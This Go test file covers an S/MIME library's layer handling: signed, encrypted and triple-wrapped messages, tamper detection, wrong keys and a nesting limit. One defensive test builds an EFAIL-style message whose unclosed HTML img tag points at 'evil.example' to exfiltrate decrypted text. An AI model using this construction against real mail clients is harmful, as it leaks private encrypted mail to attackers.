package smime

import (
	"bytes"
	"errors"
	"slices"
	"strings"
	"testing"

	"smimeproxy/internal/mailtest"
)

func encryptTo(t *testing.T, msg []byte, u *mailtest.User, c Cipher) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := Encrypt(&b, msg, []Recipient{{Cert: u.EncCert}}, EncryptOptions{Cipher: c}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func layerKinds(o *Opened) []Kind {
	var k []Kind
	for _, l := range o.Layers {
		k = append(k, l.Kind)
	}
	return k
}

func TestOpenLayers(t *testing.T) {
	pki := mailtest.NewPKI(t)
	alice := pki.User(t, "alice@example.test", mailtest.RSA)
	bob := pki.User(t, "bob@example.test", mailtest.P256)
	bobKeys := []KeyPair{{Cert: bob.EncCert, Key: bob.EncKey}}
	_, entity, _ := SplitMessage([]byte(msgNested))
	content, _ := Canonicalize(entity)

	signedMsg := signed(t, alice, msgNested, false)
	signEnc := encryptTo(t, signedMsg, bob, AES256CBC)
	var triple bytes.Buffer
	if err := Sign(&triple, signEnc, signOpts(alice, true)); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name      string
		msg       []byte
		want      []Kind
		wantValid bool
	}{
		{"plain", []byte(msgNested), nil, false},
		{"signed", signedMsg, []Kind{Signed}, true},
		{"encrypted only", encryptTo(t, []byte(msgNested), bob, AES128GCM), []Kind{AuthEnveloped}, false},
		{"sign then encrypt", signEnc, []Kind{Enveloped, Signed}, true},
		{"triple wrap", triple.Bytes(), []Kind{SignedOpaque, Enveloped, Signed}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o, err := Open(tt.msg, bobKeys, VerifyOptions{Roots: pki.Roots()})
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(layerKinds(o), tt.want) {
				t.Fatalf("layers = %v, want %v", layerKinds(o), tt.want)
			}
			if o.AllValid() != tt.wantValid {
				t.Fatalf("AllValid = %v, want %v", o.AllValid(), tt.wantValid)
			}
			if o.Header.Get("From") != "alice@example.test" {
				t.Errorf("outer From = %q", o.Header.Get("From"))
			}
			want := content
			if tt.want == nil || !slices.Contains(tt.want, Signed) {
				want = ToCRLF(entity) // never signed, so never canonicalised
			}
			if !bytes.Equal(o.Entity, want) {
				t.Errorf("entity = %.200q\nwant %.200q", o.Entity, want)
			}
			if sig := o.Signature(); sig != nil && (!sig.Signer.Equal(alice.SignCert) || !sig.FromMatches) {
				t.Errorf("inner signature: signer %v FromMatches %v", sig.Signer.Subject, sig.FromMatches)
			}
			if o.Encrypted() != (slices.Contains(tt.want, Enveloped) || slices.Contains(tt.want, AuthEnveloped)) {
				t.Errorf("Encrypted = %v", o.Encrypted())
			}
		})
	}
}

func TestOpenReportsInnerTampering(t *testing.T) {
	pki := mailtest.NewPKI(t)
	alice := pki.User(t, "alice@example.test", mailtest.RSA)
	// The signed layer is changed before encryption: decryption works, the
	// signature layer must say invalid.
	tampered := bytes.Replace(signed(t, alice, msgPlainLF, false), []byte("Hello"), []byte("Jello"), 1)
	enc := encryptTo(t, tampered, alice, AES256CBC)
	o, err := Open(enc, []KeyPair{{Cert: alice.EncCert, Key: alice.EncKey}}, VerifyOptions{Roots: pki.Roots()})
	if err != nil {
		t.Fatal(err)
	}
	if o.AllValid() || len(o.Layers) != 2 || o.Layers[1].Verify.Valid {
		t.Fatalf("tampered inner signature accepted: %v", layerKinds(o))
	}
}

func TestOpenWrongKey(t *testing.T) {
	pki := mailtest.NewPKI(t)
	alice := pki.User(t, "alice@example.test", mailtest.RSA)
	bob := pki.User(t, "bob@example.test", mailtest.RSA)
	enc := encryptTo(t, signed(t, alice, msgPlainLF, false), alice, AES256CBC)
	_, err := Open(enc, []KeyPair{{Cert: bob.EncCert, Key: bob.EncKey}}, VerifyOptions{Roots: pki.Roots()})
	if !errors.Is(err, ErrNoMatchingRecipient) {
		t.Fatalf("err = %v, want ErrNoMatchingRecipient", err)
	}
}

// TestEFAILNestedPartNotDecrypted: an encrypted entity inside a multipart
// is left alone; only a message that is S/MIME at its top level is opened.
func TestEFAILNestedPartNotDecrypted(t *testing.T) {
	pki := mailtest.NewPKI(t)
	alice := pki.User(t, "alice@example.test", mailtest.RSA)
	keys := []KeyPair{{Cert: alice.EncCert, Key: alice.EncKey}}
	secret := encryptTo(t, []byte("Content-Type: text/plain\r\n\r\nthe secret\r\n"), alice, AES256CBC)
	_, secretEntity, _ := SplitMessage(secret)
	msg := "From: mallory@example.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n" +
		"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--m\r\n" + string(secretEntity) + "\r\n--m--\r\n"
	o, err := Open([]byte(msg), keys, VerifyOptions{Roots: pki.Roots()})
	if err != nil {
		t.Fatal(err)
	}
	if len(o.Layers) != 0 || strings.Contains(string(o.Entity), "the secret") {
		t.Fatalf("nested encrypted part was opened: layers %v", layerKinds(o))
	}
}

func TestOpenLayerLimit(t *testing.T) {
	pki := mailtest.NewPKI(t)
	u := pki.User(t, "alice@example.test", mailtest.P256)
	msg := []byte(msgPlainLF)
	var atLimit []byte
	for i := range MaxDepth + 1 {
		var b bytes.Buffer
		if err := Sign(&b, msg, signOpts(u, true)); err != nil {
			t.Fatal(err)
		}
		msg = b.Bytes()
		if i == MaxDepth-1 {
			atLimit = msg
		}
	}
	o, err := Open(atLimit, nil, VerifyOptions{Roots: pki.Roots()})
	if err != nil || len(o.Layers) != MaxDepth || !o.AllValid() {
		t.Fatalf("%d layers: err = %v", MaxDepth, err)
	}
	if _, err := Open(msg, nil, VerifyOptions{Roots: pki.Roots()}); !errors.Is(err, ErrTooDeep) {
		t.Fatalf("%d layers: err = %v, want ErrTooDeep", MaxDepth+1, err)
	}
}
